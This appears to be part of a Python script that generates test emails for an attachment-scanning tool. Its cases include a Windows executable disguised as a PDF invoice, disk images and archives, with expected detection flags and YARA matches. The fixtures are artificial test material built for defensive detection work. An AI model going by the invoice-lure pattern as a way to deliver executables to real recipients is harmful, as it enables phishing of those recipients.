    write_case("disk_image_img", m, [att],
               "A FAT12 floppy image (boot sector, FAT, root directory) named "
               ".img: no ISO, VHD or DMG signature, so disk_image comes from "
               "the extension.", defects=NO_DEFECTS)


def case_type_mismatch():
    pe = pe_file()
    m = invoice_mail("Invoice INV-2024-0611",
                     INVOICE_BODY.format(num="INV-2024-0611",
                                         amount="1,204.80"))
    m.attach(pe, "application/pdf", "INV-2024-0611.pdf")
    att = top("INV-2024-0611.pdf", "application/pdf", pe, "pdf",
              mime=PE_MIME,
              flags_present=["executable", "type_mismatch"],
              yara=[yara_rule("PE_File", "executables.yar",
                              ["executable", "pe"])])
    att["flags"] = [{"name": "executable"},
                    {"name": "type_mismatch",
                     "reason": {"$regex": "pdf.*PDF document.*"
                                         "(dosexec|portable-executable)"}}]
    write_case("type_mismatch", m, [att],
               "INV-2024-0611.pdf declared application/pdf but the bytes are a "
               "PE: both the extension and the declared type promise a PDF "
               "document, libmagic says it is a Windows executable, so "
               "type_mismatch; also executable and PE_File.",
               defects=NO_DEFECTS)


def case_rar():
    skip("rar", "no free tool writes RAR (rar/WinRAR are non-free, not "
         "installed) and no RAR file exists on this machine")


def case_cab():
    if have("gcab") or have("lcab"):
        tool = "gcab" if have("gcab") else "lcab"
        readme = invoice_text("INV-2024-0640", "10.00")
        d = stage([("readme.txt", readme)])
        out = os.path.join(d, "out.cab")
        if tool == "gcab":
            run(["gcab", "-c", "-n", out, "readme.txt"], cwd=d)
        else:
            run(["lcab", "readme.txt", out], cwd=d)
        cab = read_out(out)
        m = invoice_mail("Driver package", "The driver package is attached."
                         "\n")
        m.attach(cab, "application/vnd.ms-cab-compressed", "driver.cab")
        att = top("driver.cab", "application/vnd.ms-cab-compressed", cab,
                  "cab", is_archive=True, encrypted=False, password_used=None,
                  files=[inner("readme.txt", readme, "txt")])
        write_case("cab", m, [att], "A cabinet made by %s with one file."
                   % tool, defects=NO_DEFECTS)
    else:
        skip("cab", "neither gcab nor lcab is installed")


def case_iso():
    for tool in ("genisoimage", "xorriso", "mkisofs"):
        if have(tool):
            break
    else:
        return skip("iso", "neither genisoimage nor xorriso is installed")
    readme = invoice_text("INV-2024-0650", "10.00")
    d = stage([("README.TXT", readme)])
    out = os.path.join(d, "out.iso")
    if tool == "xorriso":
        run(["xorriso", "-as", "mkisofs", "-quiet", "-o", out, "README.TXT"],
            cwd=d)
    else:
        run([tool, "-quiet", "-o", out, "README.TXT"], cwd=d)
    iso = read_out(out)
    m = invoice_mail("Delivery documents", "Your documents are attached.\n")
    m.attach(iso, "application/octet-stream", "Delivery.iso")
    att = top("Delivery.iso", "application/octet-stream", iso, "iso",
              is_archive=True, flags_present=["disk_image"],
              files={"$len": 1})
    write_case("iso", m, [att], "An ISO 9660 image made by %s: an archive "
               "(one file) and a disk image." % tool, defects=NO_DEFECTS)


def main():
    global WORK
    os.makedirs(CASES, exist_ok=True)
    WORK = tempfile.mkdtemp(prefix="attcases.")
    try:
        if not have("zip"):
            sys.exit("zip (Info-ZIP) is needed for the zip cases")
        case_zip()
        case_7z()
        case_7z_unicode_names()
        case_tar()
        case_tar_gz()
        bare_case("gzip", "gzip", "gz", "application/gzip",
                  "application/gzip")
        bare_case("bzip2", "bzip2", "bz2", "application/x-bzip2",
                  "application/x-bzip2")
        bare_case("xz", "xz", "xz", "application/x-xz", "application/x-xz")
        case_cab()
        case_iso()
        case_rar()
        case_gzip_iso()
        nested = case_nested()
        case_config_max_depth(nested)
        case_config_limits()
        case_config_scan_bytes()
        case_config_payloads()
        case_zip_password()
        case_zip_aes_password()
        case_zip_no_password()
        case_zip_password_html()
        case_zip_password_localized()
        case_zip_second_candidate()
        case_zip_mixed_encryption()
        case_7z_encrypted()
        case_7z_encrypted_headers()
        case_zip_bomb()
        case_bzip2_bomb()
        case_zip_password_subject()
        case_eicar()
        case_pe()
        case_elf()
        case_scripts()
        case_lnk()
        case_trailing_dot()
        case_double_extension()
        case_rtl("rtl_override_rfc2231", 2231)
        case_rtl("rtl_override_rfc2047", 2047)
        case_space_padding()
        case_ole_macro()
        case_ole_clean()
        case_docm()
        case_zip_looks_like_docx()
        case_pdfs()
        case_html()
        case_disk_images()
        case_type_mismatch()
    finally:
        shutil.rmtree(WORK)
    print("%d cases written, %d skipped" % (len(WRITTEN), len(SKIPPED)))
    for name, why in SKIPPED:
        print("  skipped %s: %s" % (name, why))


if __name__ == "__main__":
    main()
